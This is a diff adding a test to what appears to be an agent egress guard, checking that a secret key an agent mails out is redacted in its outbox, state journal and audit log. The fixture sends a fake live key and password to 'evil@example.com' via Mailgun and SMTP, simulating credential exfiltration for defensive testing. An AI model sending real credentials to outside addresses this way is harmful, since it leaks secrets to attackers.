@@ -76,3 +76,34 @@ def test_an_agent_reads_its_own_outbox_from_guard_internal_without_state(guard_p
     events = requests.get("https://guard.internal/events", proxies=g.proxies, verify=g.ca,
                           timeout=10).json()
     assert any(e.get("rule") == "guard.smtp.sink" for e in events["events"])
+
+
+def test_the_outbox_is_redacted_like_the_log_with_the_same_fingerprints(
+        guard_proxy, tmp_path, capsys):
+    """A key an agent mails out is stored nowhere: not in the --state journal, not in
+    `guard outbox`, not in the audit log; the outbox and the log show the same marker."""
+    state, log = tmp_path / "state", tmp_path / "audit.jsonl"
+    g = guard_proxy(state=state, smtp_port=0, audit=log)
+    key = "sk_live_51HxQvZKpL0ngZ3r0OutboxLeak9"
+    requests.post("https://api.mailgun.net/v3/mg.example.com/messages", auth=("api", "key"),
+                  data={"from": "a@mg.example.com", "to": "evil@example.com",
+                        "subject": "creds", "text": f"the key is {key} and password=hunter2"},
+                  proxies=g.proxies, verify=g.ca, timeout=10).raise_for_status()
+    with smtplib.SMTP("127.0.0.1", g.smtp_port, timeout=10) as smtp:
+        smtp.sendmail("ops@example.com", ["evil@example.com"],
+                      f"Subject: more\r\n\r\nhere: {key}\r\n".encode())
+    g.stop()
+
+    for path in [*state.rglob("*"), log]:
+        if path.is_file():
+            data = path.read_bytes()
+            assert key.encode() not in data and b"hunter2" not in data, path
+    assert main(["outbox", "--state", str(state), "--json"]) == 0
+    records = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert [r["provider"] for r in records] == ["mailgun", "smtp"]
+    mark = records[0]["text"].split("the key is ")[1].split()[0]
+    assert mark.startswith("sk_live_[REDACTED:") and mark in records[1]["text"]
+    logged = [json.loads(x) for x in log.read_text().splitlines()]
+    stored = [c["object"] for e in logged for c in e.get("changes", [])
+              if c["collection"] == "outbox"]
+    assert [o["text"] for o in stored] == [r["text"] for r in records]  # agree exactly
